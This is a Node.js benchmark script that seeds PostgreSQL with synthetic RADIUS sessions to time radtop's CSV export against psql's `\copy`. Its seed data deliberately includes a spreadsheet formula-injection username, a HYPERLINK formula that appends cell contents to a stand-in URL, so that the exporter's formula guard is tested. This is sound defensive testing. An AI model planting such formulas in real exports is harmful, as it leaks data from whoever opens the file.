/**
 * bench:export — `radtop export` of 500,000 sessions on real PostgreSQL: wall time, rows/s and peak RSS, beside
 * psql's `\copy (SELECT ...) TO STDOUT WITH (FORMAT csv, HEADER)` of the same rows (the very SELECT radtop
 * runs its COPY of, with the parameters written in as literals) as the floor. Targets: radtop within 1.5x the floor's time and
 * within 50 MB above its idle RSS (the same command exporting no rows).
 *
 * Both run as the user runs them, as child processes writing a file: `node dist/cli.js export ... -o FILE` and
 * `psql -c '\copy ...' > FILE`. Peak RSS is the child's VmHWM, read from /proc while it runs.
 *
 * The data: BENCH_ROWS (default 500,000) closed sessions over 30 days on 6 NAS plus 5,000 open ones (not
 * exported), inserted server-side with generate_series into radtop's copy of the stock schema; a few
 * usernames carry commas, quotes, line breaks and formula starts so quoting and the guard are on the path.
 * The export: --status closed --from/--to around those 30 days, newest first (the default order).
 *
 * PostgreSQL: DATABASE_URL if set (an empty throwaway database, or one this bench set up before), else a
 * temporary cluster of the newest /usr/lib/postgresql/<version>. Knobs (env): BENCH_ROWS, BENCH_RUNS (3).
 *
 * Exit status: 0 when it measured (a missed target is a result, not a failure), 1 on an error,
 * 2 when DATABASE_URL is not a database it may wipe.
 */
import {spawn} from 'node:child_process';
import {existsSync, mkdtempSync, readFileSync, rmSync, statSync} from 'node:fs';
import os from 'node:os';
import {join} from 'node:path';
import {performance} from 'node:perf_hooks';
import {fileURLToPath} from 'node:url';
import pg from 'pg';
import {buildExportQuery, DEFAULT_EXPORT_COLUMNS, exportColumn} from '../dist/sessions/export-sql.js';
import {probeRadacctColumns} from '../dist/db/radacct-columns.js';
import {FREERADIUS_SCHEMA_SQL} from '../dist/db/freeradius-schema.js';
import {DEFAULT_STALE_AFTER_SECONDS} from '../dist/sessions/session-math.js';
import {findPsql, startCluster} from './lib/pg-cluster.js';
import {intEnv} from './lib/env.js';

const ROWS = intEnv('BENCH_ROWS', 500_000);
const OPEN = 5_000;
const RUNS = intEnv('BENCH_RUNS', 3);
const DAYS = 30;
const TIME_TARGET = 1.5;
const RSS_TARGET_MB = 50;
const CLI = fileURLToPath(new URL('../dist/cli.js', import.meta.url));

/** @param {string} message */
const log = (message) => process.stdout.write(`${message}\n`);
/** @param {number} bytes */
const mb = (bytes) => (bytes / 1024 / 1024).toFixed(1);
/** @param {number} value */
const ms = (value) => Math.round(value).toLocaleString('en-US');
/** @param {number} value */
const count = (value) => Math.round(value).toLocaleString('en-US');

class RefusedError extends Error {}

/**
 * @param {readonly number[]} values
 * @returns {number}
 */
function median(values) {
	const sorted = [...values].sort((a, b) => a - b);
	return /** @type {number} */ (sorted[Math.floor((sorted.length - 1) / 2)]);
}

/**
 * Refuses a DATABASE_URL database unless it is empty or carries our marker table; (re)creates the schema.
 * @param {pg.Pool} pool
 * @param {boolean} external
 */
async function prepareDatabase(pool, external) {
	if (external) {
		const {rows} = await pool.query(`
			SELECT n.nspname || '.' || c.relname AS name FROM pg_class c JOIN pg_namespace n ON n.oid = c.relnamespace
			WHERE c.relkind IN ('r', 'p', 'v', 'm', 'f') AND n.nspname NOT IN ('pg_catalog', 'information_schema')
				AND n.nspname NOT LIKE 'pg\\_toast%' AND n.nspname NOT LIKE 'pg\\_temp%'`);
		/** @type {string[]} */
		const names = rows.map((row) => row['name']);
		if (names.length > 0 && !names.some((name) => name.endsWith('.radtop_bench_marker'))) {
			throw new RefusedError(
				`refusing to use DATABASE_URL: that database has tables (${names.slice(0, 5).join(', ')}) and no radtop_bench_marker table; ` +
					'bench:export drops and recreates radacct and nas, so give it an empty throwaway database or unset DATABASE_URL.',
			);
		}
	}
	await pool.query('CREATE TABLE IF NOT EXISTS radtop_bench_marker (created_at timestamptz NOT NULL DEFAULT now())');
	await pool.query('DROP TABLE IF EXISTS radacct, nas CASCADE');
	await pool.query(FREERADIUS_SCHEMA_SQL);
}

/** Rows $1..$2; $3 is the newest start, $4 the seconds between two starts. Row i is open when i % $5 = 0. */
const INSERT_SQL = `
INSERT INTO radacct (acctsessionid, acctuniqueid, username, realm, nasipaddress, nasportid, nasporttype, acctstarttime,
	acctupdatetime, acctstoptime, acctinterval, acctsessiontime, acctauthentic, acctinputoctets, acctoutputoctets,
	calledstationid, callingstationid, acctterminatecause, servicetype, framedprotocol, framedipaddress)
SELECT upper(lpad(to_hex(i), 8, '0')), md5('radtop-export-' || i),
	CASE WHEN i % 50000 = 7 THEN '=HYPERLINK("http://x.example/?"&A1,"help")'
		WHEN i % 50000 = 11 THEN E'line\\r\\nbreak, "quoted"'
		ELSE 'user' || (i * 7919) % 60000 || CASE WHEN i % 4 = 0 THEN '@isp.example' ELSE '' END END,
	CASE WHEN i % 4 = 0 THEN 'isp.example' END,
	'10.20.0.0'::inet + (1 + i % 6), 'ge-0/0/' || i % 6 || '.' || (100 + i % 400), 'Virtual',
	start, start + duration * interval '1 second', CASE WHEN i % $5 <> 0 THEN start + duration * interval '1 second' END,
	300, duration, 'RADIUS', (duration * 2100 + i % 997)::bigint, (duration * 91000 + i % 991)::bigint * 37,
	'bng-' || (1 + i % 6), 'AA:BB:CC:' || upper(lpad(to_hex(i % 256), 2, '0')) || ':' || upper(lpad(to_hex((i / 256) % 256), 2, '0')) || ':01',
	CASE WHEN i % $5 = 0 THEN NULL WHEN i % 3 = 0 THEN 'Lost-Carrier' ELSE 'User-Request' END,
	'Framed-User', 'PPP', '100.64.0.0'::inet + (i * 2654435761) % 4194304
FROM generate_series($1::bigint, $2::bigint) AS g(i)
CROSS JOIN LATERAL (SELECT $3::timestamptz - ($2::bigint - g.i) * $4::float8 * interval '1 second' AS start,
	60 + (g.i * 104729) % 14400 AS duration) AS t`;

/** @param {pg.Pool} pool */
async function seed(pool) {
	const total = ROWS + OPEN;
	const newest = new Date(Date.now() - 86_400_000);
	const step = (DAYS * 86_400) / total;
	const openEvery = Math.floor(total / OPEN);
	await pool.query(
		"INSERT INTO nas (nasname, shortname, type, secret) SELECT '10.20.0.' || k, 'bng-' || k, 'other', 'secret-' || k FROM generate_series(1, 6) AS k",
	);
	const started = performance.now();
	const {rowCount} = await pool.query(INSERT_SQL, [1, total, newest, step, openEvery]);
	await pool.query('VACUUM ANALYZE radacct, nas');
	const {
		rows: [summary],
	} = await pool.query(
		"SELECT count(*) FILTER (WHERE acctstoptime IS NOT NULL) AS closed, count(*) FILTER (WHERE acctstoptime IS NULL) AS open, min(acctstarttime) AS first, max(acctstarttime) AS last, pg_size_pretty(pg_relation_size('radacct')) AS heap FROM radacct",
	);
	log(
		`seeded ${count(/** @type {number} */ (rowCount))} rows (${count(summary.closed)} closed, ${count(summary.open)} open) in ${ms(performance.now() - started)} ms; heap ${summary.heap}`,
	);
	return {closed: Number(summary.closed), from: new Date(summary.first.getTime() - 1000), to: new Date(summary.last.getTime() + 1000)};
}

/** @typedef {{ms: number, peakRss: number, code: number | null, stderr: string}} Measurement */

/**
 * Runs a child, sampling its peak RSS (VmHWM) from /proc; resolves to {ms, peakRss, code, stderr}.
 * @param {string} command
 * @param {string[]} args
 * @param {{stdout?: number, env?: NodeJS.ProcessEnv}} [options]
 * @returns {Promise<Measurement>}
 */
function measure(command, args, options = {}) {
	return new Promise((resolve, reject) => {
		const started = performance.now();
		const child = spawn(command, args, {stdio: ['ignore', options.stdout ?? 'ignore', 'pipe'], env: options.env ?? process.env});
		let stderr = '';
		let peakRss = 0;
		/** @type {import('node:stream').Readable} */ (child.stderr).on('data', (chunk) => (stderr += chunk));
		const sample = () => {
			try {
				const match = /VmHWM:\s+(\d+) kB/.exec(readFileSync(`/proc/${child.pid}/status`, 'utf8'));
				if (match) peakRss = Math.max(peakRss, Number(match[1]) * 1024);
			} catch {
				// The child has exited between two samples.
			}
		};
		const timer = setInterval(sample, 5);
		child.on('error', (error) => {
			clearInterval(timer);
			reject(error);
		});
		child.on('exit', (code) => {
			clearInterval(timer);
			resolve({ms: performance.now() - started, peakRss, code, stderr});
		});
	});
}

/**
 * The export's SELECT with its parameters written in as literals, for psql's \copy (which takes none). Bench data only.
 * @param {{text: string, values: readonly unknown[]}} query
 */
function inlined(query) {
	let text = query.text;
	for (let index = query.values.length; index >= 1; index--) {
		const value = query.values[index - 1];
		const literal = Array.isArray(value)
			? `${pg.escapeLiteral(`{${value.map((item) => `"${item}"`).join(',')}}`)}`
			: value instanceof Date
				? `'${value.toISOString()}'`
				: typeof value === 'number'
					? String(value)
					: pg.escapeLiteral(String(value));
		text = text.replaceAll(`$${index}`, literal);
	}
	return text;
}

async function main() {
	const external = Boolean(process.env['DATABASE_URL']);
	/** @type {Awaited<ReturnType<typeof startCluster>> | undefined} */
	let cluster;
	/** @type {pg.Pool | undefined} */
	let pool;
	const dir = mkdtempSync(join(os.tmpdir(), 'radtop-bench-export-'));
	try {
		if (!existsSync(CLI)) throw new Error('dist/cli.js is missing: run `npm run build` (npm run bench:export does)');
		cluster = external ? undefined : await startCluster({log: (message) => log(`PostgreSQL: ${message}`)});
		const url = /** @type {string} */ (external ? process.env['DATABASE_URL'] : cluster?.url);
		pool = new pg.Pool({connectionString: url, max: 2});
		pool.on('error', () => {});
		const {
			rows: [server],
		} = await pool.query("SELECT version() AS version, current_setting('shared_buffers') AS shared_buffers");
		log(
			`${server.version.split(' on ')[0]}, shared_buffers ${server.shared_buffers}; ${os.availableParallelism()} cores, load ${os
				.loadavg()
				.map((l) => l.toFixed(2))
				.join(' ')}`,
		);
		await prepareDatabase(pool, external);
		const data = await seed(pool);

		/** @type {NodeJS.ProcessEnv} */
		const env = {...process.env, NO_COLOR: '1'};
		for (const name of ['DATABASE_URL', 'PGHOST', 'PGPORT', 'PGUSER', 'PGDATABASE', 'PGPASSWORD']) delete env[name];
		const window = ['--status', 'closed', '--from', data.from.toISOString(), '--to', data.to.toISOString()];
		/** @type {(file: string, extra?: string[]) => string[]} */
		const radtopArgs = (file, extra = []) => [CLI, 'export', '--db', url, ...window, '-o', file, ...extra];
		const available = (await probeRadacctColumns(pool)).readable;
		const nasNames = (await pool.query('SELECT nasname AS ip, shortname AS name FROM nas')).rows;
		const query = buildExportQuery(
			{status: 'closed', startedFrom: data.from, startedTo: data.to},
			{key: 'start', direction: 'desc'},
			{
				columns: /** @type {import('../dist/sessions/export-sql.js').ExportColumn[]} */ (DEFAULT_EXPORT_COLUMNS.map(exportColumn)),
				available,
				staleAfterSeconds: DEFAULT_STALE_AFTER_SECONDS,
				nasNames,
			},
		);
		const copy = `\\copy (${inlined(query).replace(/\s+/g, ' ')}) TO STDOUT WITH (FORMAT csv, HEADER)`;
		const psql = findPsql();

		log(`\nexporting ${count(data.closed)} closed sessions, ${RUNS} runs each (after one warm-up of each), median reported`);
		const idleFile = join(dir, 'idle.csv');
		const radtopFile = join(dir, 'radtop.csv');
		const floorFile = join(dir, 'floor.csv');
		/** @typedef {'idle' | 'radtop' | 'floor'} Kind */
		/** @type {Record<Kind, Measurement[]>} */
		const runs = {idle: [], radtop: [], floor: []};
		/** @type {Kind[]} */
		const kinds = ['idle', 'radtop', 'floor'];
		/** @param {Kind} kind */
		const runOnce = async (kind) => {
			if (kind === 'idle') return measure(process.execPath, radtopArgs(idleFile, ['--search', 'no-such-subscriber-xyz']), {env});
			if (kind === 'radtop') return measure(process.execPath, radtopArgs(radtopFile), {env});
			const {openSync, closeSync} = await import('node:fs');
			const fd = openSync(floorFile, 'w');
			try {
				return await measure(psql, ['-X', '-q', '-v', 'ON_ERROR_STOP=1', '-d', url, '-c', copy], {stdout: fd, env});
			} finally {
				closeSync(fd);
			}
		};
		for (const kind of kinds) {
			const warm = await runOnce(kind);
			if (warm.code !== 0) throw new Error(`${kind} run failed (exit ${warm.code}): ${warm.stderr.trim()}`);
		}
		for (let run = 0; run < RUNS; run++) {
			// Interleaved, so a noisy neighbour on a shared machine hits both sides alike.
			for (const kind of kinds) {
				const result = await runOnce(kind);
				if (result.code !== 0) throw new Error(`${kind} run failed (exit ${result.code}): ${result.stderr.trim()}`);
				runs[kind].push(result);
			}
		}
		const written = /wrote ([\d,]+) sessions/.exec(/** @type {Measurement} */ (runs.radtop.at(-1)).stderr);
		const radtopRows = written ? Number(/** @type {string} */ (written[1]).replaceAll(',', '')) : NaN;
		if (radtopRows !== data.closed) throw new Error(`radtop wrote ${radtopRows} rows, expected ${data.closed}`);

		/** @param {Kind} kind */
		const timeOf = (kind) => median(runs[kind].map((run) => run.ms));
		/** @param {Kind} kind */
		const rssOf = (kind) => median(runs[kind].map((run) => run.peakRss));
		const radtopMs = timeOf('radtop');
		const floorMs = timeOf('floor');
		const idleMs = timeOf('idle');
		const ratio = radtopMs / floorMs;
		const overIdle = rssOf('radtop') - rssOf('idle');
		log('');
		log(`                         wall ms   rows/s      peak RSS   file`);
		log(
			`radtop export (0 rows)  ${ms(idleMs).padStart(8)}   ${'-'.padStart(9)}   ${mb(rssOf('idle')).padStart(7)} MB   ${statSync(idleFile).size} B (header)`,
		);
		log(
			`radtop export           ${ms(radtopMs).padStart(8)}   ${count((data.closed * 1000) / radtopMs).padStart(9)}   ${mb(rssOf('radtop')).padStart(7)} MB   ${mb(statSync(radtopFile).size)} MB`,
		);
		log(
			`psql \\copy (floor)      ${ms(floorMs).padStart(8)}   ${count((data.closed * 1000) / floorMs).padStart(9)}   ${mb(rssOf('floor')).padStart(7)} MB   ${mb(statSync(floorFile).size)} MB`,
		);
		log('');
		log(`time: ${ratio.toFixed(2)}x the floor (target <= ${TIME_TARGET}x): ${ratio <= TIME_TARGET ? 'met' : 'MISSED'}`);
		log(
			`memory: ${mb(overIdle)} MB above idle (target <= ${RSS_TARGET_MB} MB): ${overIdle <= RSS_TARGET_MB * 1024 * 1024 ? 'met' : 'MISSED'}`,
		);
		log(
			`every run (ms): radtop ${runs.radtop.map((run) => ms(run.ms)).join(', ')}; floor ${runs.floor.map((run) => ms(run.ms)).join(', ')}; idle ${runs.idle.map((run) => ms(run.ms)).join(', ')}`,
		);
		log(
			'radtop adds to the floor: its start-up and schema check (the idle run) and CRLF line ends; into a file the 500,000 cap is checked as the rows come, without a count first.',
		);
	} finally {
		await pool?.end().catch(() => {});
		await cluster?.stop();
		rmSync(dir, {recursive: true, force: true});
	}
}

main().catch((error) => {
	process.stderr.write(`bench:export: ${error instanceof Error ? error.message : String(error)}\n`);
	process.exit(error instanceof RefusedError ? 2 : 1);
});
